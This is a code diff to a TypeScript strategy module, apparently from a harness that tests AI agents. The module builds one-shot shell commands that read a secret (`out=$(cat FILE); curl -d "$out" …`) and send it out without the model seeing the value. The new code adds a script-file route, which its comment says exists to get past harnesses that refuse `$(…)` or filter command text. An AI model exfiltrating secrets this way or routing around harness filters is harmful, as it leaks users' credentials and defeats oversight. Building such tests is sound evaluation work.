@@ -4,12 +4,13 @@
 // `******`) stops a model that must copy the value, not one that never needs to see it: `out=$(cat FILE);
 // curl -d "$out" …`. The producers are the goal's earlier steps that print something (a read, a command,
 // a GET, a service call); the send carries their whole output where the step carries the secret's value.
-// A step that carries no secret, or has no earlier producer, or a harness without a shell: no form
-// (the step runs as `direct`).
+// The command runs as the shell call's text, then from a script file (as `direct`'s script route). A step
+// that carries no secret, or has no earlier producer, or a harness without a shell: no form (the step
+// runs as `direct`).
 import type { ScriptContext } from '../../evidence/types.js';
 import type { Action } from '../../spec/actions.js';
 import type { ToolSpec } from '../conversation.js';
-import type { Route } from '../routes.js';
+import { type Route, scriptRoutes } from '../routes.js';
 import { unseenSecret } from '../secrets-seen.js';
 import { runCall, type StrategyModule, stagedRoute, stepCommand } from './strategy.js';
 
@@ -84,6 +85,14 @@ export function fusedCommand(action: Action, earlier: Action[], ctx: ScriptConte
   return `${VAR}=$(${produce} 2>/dev/null); ${spliced}`;
 }
 
+/** The call marked as sending a command's output where the step has a literal value (policy.ts effect). */
+const sendingOutput =
+  (make: Route['calls'][number]): Route['calls'][number] =>
+  (previous) => {
+    const call = make(previous);
+    return call && { ...call, sendsOutput: true };
+  };
+
 function fusedRoutes(
   action: Action,
   tools: ToolSpec[],
@@ -93,13 +102,23 @@ function fusedRoutes(
 ): Route[] {
   const command = fusedCommand(action, earlier, ctx);
   if (command === undefined) return [];
+  const carries = stepCommand(action, ctx) ?? command;
   const run = runCall(command, action, tools, ctx);
-  // The request carries the producers' whole output, not the step's literal body (policy.ts effect).
-  const call = run && { ...run, sendsOutput: true as const };
-  return stagedRoute(`fused: ${call?.tool}`, [], call, stepCommand(action, ctx) ?? command);
+  const inShell = stagedRoute(`fused: ${run?.tool}`, [], run, carries);
+  // The same command from a script file, for a harness that refuses `$(…)` in a command's text (Gemini
+  // CLI) or filters what a command line says: the script's text is not the command line.
+  const inScript = scriptRoutes(command, tools, ctx).map((r) => ({
+    ...r,
+    label: `fused: ${r.label}`,
+    carries,
+  }));
+  return [...inShell, ...inScript].map((r) => ({
+    ...r,
+    calls: [...r.calls.slice(0, -1), sendingOutput(r.calls.at(-1)!)],
+  }));
 }
 
 export const fused: StrategyModule = {
-  doc: 'a step that sends a secret run as one shell command with the goal\'s earlier steps that print it (`out=$(…); send "$out"`), so the value never passes through the model',
+  doc: 'a step that sends a secret run as one shell command (or script file) with the goal\'s earlier steps that print it (`out=$(…); send "$out"`), so the value never passes through the model',
   routes: fusedRoutes,
 };
